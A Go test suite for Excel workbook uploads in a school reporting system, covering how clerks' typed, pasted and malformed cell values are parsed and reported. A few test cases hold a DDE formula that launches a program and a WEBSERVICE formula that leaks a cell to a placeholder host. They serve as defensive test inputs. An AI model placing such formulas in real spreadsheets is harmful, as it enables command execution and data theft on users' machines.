package collect_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"nianlun/internal/base/org"
	"nianlun/internal/engine/form"
	"nianlun/internal/engine/period"
	"nianlun/internal/kit/fault"
	"nianlun/internal/work/collect"
)

// What a clerk types, pastes and drags in Excel, cell by cell: what is meant is taken, the rest is told at its cell with
// what to do, and nothing is stored that was not meant.
func TestCellsAsPeopleFillThem(t *testing.T) {
	b := newBureau(t, 2)
	b.publish(`form: odd
title: 各种填法
period: month
basis: 各类填法月报制度
sections:
  - title: 一
    fields:
      - {code: n, name: 人数, type: integer, min: 0, max: 100000}
      - {code: m, name: 金额, type: money, unit: 万元, decimals: 2}
      - {code: p, name: 比例, type: percent, decimals: 1, min: 0, max: 100}
      - {code: d, name: 日期, type: date}
      - {code: s, name: 说明, type: text, max: 30}
      - {code: c, name: 证件号, type: idnumber}
      - {code: y, name: 是否, type: yesno}
`)
	o := b.asked(t, "odd")
	href := collect.Link(o.ID)
	clerk := b.browser("wangxue")
	style := func(f book, code string) int {
		id, err := f.NewStyle(&excelize.Style{CustomNumFmt: &code})
		must(f.t, err)
		return id
	}
	tests := []struct {
		name, field string
		put         func(f book, cell string)
		want        string // what is stored, or what is typed and no value
		told        string // at the cell
	}{
		{"a number as text", "n", func(f book, c string) { f.set(fillSheet, c, "120") }, "120", ""},
		{"full-width digits", "n", func(f book, c string) { f.set(fillSheet, c, "１２０") }, "120", ""},
		{"blanks around and a line break", "n", func(f book, c string) { f.set(fillSheet, c, " 120\n") }, "120", ""},
		{"with groups of three", "n", func(f book, c string) { f.set(fillSheet, c, "1,200") }, "1200", ""},
		{"with a unit", "n", func(f book, c string) { f.set(fillSheet, c, "120人") }, "120人", "“120人”"},
		{"negative", "n", func(f book, c string) { f.set(fillSheet, c, -5) }, "-5", "0"},
		{"huge", "n", func(f book, c string) { f.set(fillSheet, c, 1e28) }, "10000000000000000000000000000", "整数部分最多 15 位"},
		{"decimals in a whole number", "n", func(f book, c string) { f.set(fillSheet, c, 1.5) }, "1.5", "要填整数"},
		{"too many decimals", "m", func(f book, c string) { f.set(fillSheet, c, 1.005) }, "1.005", "小数"},
		{"binary fraction", "m", func(f book, c string) { f.set(fillSheet, c, 0.1+0.2) }, "0.3", ""},
		{"50% with a sign", "p", func(f book, c string) { f.set(fillSheet, c, 0.5) }, "50", ""},
		{"0.5 without a sign", "p", func(f book, c string) {
			f.set(fillSheet, c, 0.5)
			must(f.t, f.SetCellStyle(fillSheet, c, c, style(f, "0.0")))
		}, "0.5", "没有百分号"},
		{"52.3% as text", "p", func(f book, c string) { f.set(fillSheet, c, "52.3%") }, "52.3", ""},
		{"a day as Excel keeps it", "d", func(f book, c string) { f.set(fillSheet, c, 46266) }, "2026-09-01", ""},
		{"a day in words", "d", func(f book, c string) { f.set(fillSheet, c, "2026年9月1日") }, "2026-09-01", ""},
		{"a time of the day", "d", func(f book, c string) { f.set(fillSheet, c, time.Date(2026, 9, 1, 8, 30, 0, 0, time.UTC)) }, "2026-09-01", "只取日期"},
		{"no day", "d", func(f book, c string) { f.set(fillSheet, c, "九月初") }, "九月初", "“九月初”"},
		{"text that starts a program", "s", func(f book, c string) { f.set(fillSheet, c, "=cmd|' /C calc'!A0") }, "=cmd|' /C calc'!A0", ""},
		{"a formula that starts a program", "s", func(f book, c string) { must(f.t, f.SetCellFormula(fillSheet, c, "cmd|' /C calc'!A0")) }, "", "会调用其他程序"},
		{"a link that leaks", "n", func(f book, c string) { must(f.t, f.SetCellFormula(fillSheet, c, `WEBSERVICE("http://x/"&A1)`)) }, "", "会调用其他程序"},
		{"an error value", "n", func(f book, c string) { must(f.t, f.SetCellFormula(fillSheet, c, "1/0")) }, "", "公式"},
		{"an identity number that became a figure", "c", func(f book, c string) { f.set(fillSheet, c, 11010519491231002e1) }, "", "格式改成“文本”"},
		{"and was pasted as Excel shows it", "c", func(f book, c string) { f.set(fillSheet, c, "1.10105E+17") }, "", "格式改成“文本”"},
		{"yes as a truth value", "y", func(f book, c string) { f.set(fillSheet, c, true) }, "yes", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := clerk.workbook(href + "/workbook.xlsx")
			f.t = t
			cell := f.at(fillSheet, tt.field, "c:value")
			must(t, f.SetCellValue(fillSheet, cell, nil))
			tt.put(f, cell)
			look := clerk.upload(href+"/workbook", url.Values{}, "file", "a.xlsx", f.bytes()).want(303).location
			p := clerk.get(look).want(200)
			told := ""
			for _, row := range p.Find("section[aria-labelledby=issues] tbody tr").EachIter() {
				if text(row.Find("td").First()) == fillSheet+"!"+cell {
					told = text(row)
				}
			}
			if (tt.told == "") != (told == "") || !strings.Contains(told, tt.told) {
				t.Errorf("told %q, want %q", told, tt.told)
			}
			now := b.owed(0, "2026-09")
			clerk.post(look, url.Values{"revision": {fmt.Sprint(now.RecordNo)}}).want(303)
			r, err := b.Return(t.Context(), b.clerkOf(0), o.ID)
			must(t, err)
			got := r.Raw[form.Path(tt.field)]
			if v := r.Values.Get(form.Path(tt.field)); !v.IsMissing() {
				field, _ := r.Definition.Field(tt.field)
				got = field.Type.Text(field, v)
			}
			if got != tt.want {
				t.Errorf("stored %q, want %q", got, tt.want)
			}
			// Emptied again for the next.
			_, err = b.SaveDraft(t.Context(), b.clerkOf(0), collect.SaveInput{Return: o.ID, Base: b.owed(0, "2026-09").RecordNo, Raw: form.Raw{}})
			must(t, err)
		})
	}
}

// asked opens a form for September and gives the first school's return.
func (b *bureau) asked(t *testing.T, code string) collect.Obligation {
	t.Helper()
	p, err := period.Parse("2026-09")
	must(t, err)
	_, err = b.OpenCampaign(t.Context(), b.chief, collect.NewCampaign{
		Form: code, Owner: "sec", Year: 2026, ListNo: "云教填〔2026〕9号", Periods: []period.Period{p}, EndsOn: period.Date{Year: 2026, Month: 12, Day: 31},
		Due: collect.DueRule{Workdays: 5, After: collect.AfterEnd}, Signatures: []collect.SignRole{collect.Filler}, Units: collect.UnitRule{Types: org.SchoolTypes()},
	})
	if err != nil {
		t.Fatalf("%v %+v", err, fault.As(err).Fields)
	}
	return b.owed(0, "2026-09")
}

// A file is what is in it, whatever it is called; of one that is no workbook of this form nothing is read.
func TestFilesThatAreNoWorkbooks(t *testing.T) {
	b := newBureau(t, 2)
	b.open(alone, "2026-09")
	href := collect.Link(b.owed(0, "2026-09").ID)
	clerk := b.browser("wangxue")
	own := clerk.workbook(href + "/workbook.xlsx").bytes()
	var other bytes.Buffer
	w := zip.NewWriter(&other)
	part, err := w.Create("readme.txt")
	must(t, err)
	_, err = part.Write([]byte("x"))
	must(t, err)
	must(t, w.Close())
	for name, tt := range map[string]struct {
		file  string
		data  []byte
		words string
	}{
		"a picture":      {"表.xlsx", append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 100)...), "不是 Excel 工作簿"},
		"a zip":          {"表.xlsx", other.Bytes(), "不是 Excel 工作簿"},
		"a list":         {"表.csv", []byte("学校,数\n"), "不是 Excel 工作簿"},
		"a page":         {"表.xls", []byte("<html><table><tr><td>1</td></tr></table></html>"), "不是 Excel 工作簿"},
		"damaged inside": {"表.xlsx", spoiled(own), "损坏"},
	} {
		t.Run(name, func(t *testing.T) {
			clerk.upload(href+"/workbook", url.Values{}, "file", tt.file, tt.data).want(422).has("#file-why", tt.words)
		})
	}
	for _, name := range []string{"表.xls", "表.csv", "表.zip", "表.png", "表"} {
		clerk.get(clerk.upload(href+"/workbook", url.Values{}, "file", name, own).want(303).location).want(200).has("main", "不用保存")
	}
}

// spoiled is a workbook with a piece in its middle overwritten.
func spoiled(data []byte) []byte {
	out := bytes.Clone(data)
	for i := len(out) / 3; i < len(out)/3+400; i++ {
		out[i] ^= 0x5a
	}
	return out
}

// A campaign's workbook in which some schools have mistakes: the others are saved and those left out, or all are saved
// as far as they can be, as was chosen; what came of each is said.
func TestSomeSchoolsHaveMistakes(t *testing.T) {
	b := newBureau(t, 6)
	opened := b.open(alone, "2026-09")
	href := "/collect/campaigns/" + opened.Campaign.ID
	section := b.browser("hewei")
	f := section.workbook(href + "/workbook.xlsx")
	for i := range 6 {
		f.set(fillSheet, f.at(fillSheet, b.owed(i, "2026-09").ID, "spent"), 10+i)
	}
	f.set(fillSheet, f.at(fillSheet, b.owed(2, "2026-09").ID, "spent"), "约三十")
	look := section.upload(href+"/workbook", url.Values{}, "file", "汇总.xlsx", f.bytes()).want(303).location
	p := section.get(look).want(200)
	p.has("main form", "有 1 所有要改的地方：这几所先不写，其余的写")
	if p.Find("input[name=whole][checked]").Length() != 1 {
		t.Error("it is not offered to leave them out")
	}
	p = section.post(look, url.Values{"whole": {"1"}}).want(200)
	p.has("main", "已保存 5 所")
	p.has("section[aria-labelledby=schools]", "按您的选择没有写")
	for i := range 6 {
		if o := b.owed(i, "2026-09"); (o.RecordNo == 1) != (i != 2) {
			t.Errorf("school %d: revision %d", i, o.RecordNo)
		}
	}
	// Brought again, and taken as it is: the school mends it on the page.
	look = section.upload(href+"/workbook", url.Values{}, "file", "汇总.xlsx", f.bytes()).want(303).location
	section.post(look, url.Values{}).want(200).has("main", "已保存 1 所")
	r, err := b.Return(t.Context(), b.clerkOf(2), b.owed(2, "2026-09").ID)
	must(t, err)
	if r.Raw["spent"] != "约三十" {
		t.Errorf("what was written is lost: %v", r.Raw)
	}
}

// A workbook of another bureau says nothing here, though its schools may be called the same.
func TestWorkbookOfAnotherBureau(t *testing.T) {
	there, here := newBureau(t, 2), newBureau(t, 2)
	there.open(alone, "2026-09")
	here.open(alone, "2026-09")
	data := there.browser("wangxue").workbook(collect.Link(there.owed(0, "2026-09").ID) + "/workbook.xlsx").bytes()
	up := collect.Link(here.owed(0, "2026-09").ID) + "/workbook"
	here.browser("wangxue").upload(up, url.Values{}, "file", "a.xlsx", data).want(422).has("#file-why", "不能在这里上传")
}

// Two clerks bring their workbooks and save at the same moment: one is saved, the other is shown what the first has
// changed, and both remain.
func TestTwoWorkbooksAtOnce(t *testing.T) {
	b := newBureau(t, 2)
	b.open(alone, "2026-09")
	href := collect.Link(b.owed(0, "2026-09").ID)
	type side struct {
		who  *browser
		look string
		led  string
	}
	sides := make([]*side, 2)
	for i, login := range []string{"wangxue", "lina"} {
		who := b.browser(login)
		f := who.workbook(href + "/workbook.xlsx")
		f.set(fillSheet, f.at(fillSheet, "spent", "c:value"), 30+i)
		f.set(fillSheet, f.at(fillSheet, fmt.Sprintf("pupils[g%d]", i+1), "classes"), 5+i)
		sides[i] = &side{who: who, look: who.upload(href+"/workbook", url.Values{}, "file", login+".xlsx", f.bytes()).want(303).location}
	}
	var both sync.WaitGroup
	for _, one := range sides {
		both.Go(func() {
			one.led = one.who.post(one.look, url.Values{"revision": {"0"}}).location
		})
	}
	both.Wait()
	second := sides[0]
	if sides[0].led == href {
		second = sides[1]
	}
	if second.led != second.look {
		t.Fatalf("led to %q and %q", sides[0].led, sides[1].led)
	}
	p := second.who.get(second.look).want(200)
	p.has("section[aria-labelledby=clashes]", "30.00")
	p.has("section[aria-labelledby=clashes]", "31.00")
	second.who.post(second.look, url.Values{"revision": {"1"}, "theirs:spent": {"1"}}).want(303)
	r, err := b.Return(t.Context(), b.clerkOf(0), b.owed(0, "2026-09").ID)
	must(t, err)
	for path, want := range map[form.Path]string{"pupils[g1].classes": "5", "pupils[g2].classes": "6"} {
		if v := r.Values.Get(path); v.Number().String() != want {
			t.Errorf("%s is %v, want %s", path, v, want)
		}
	}
}
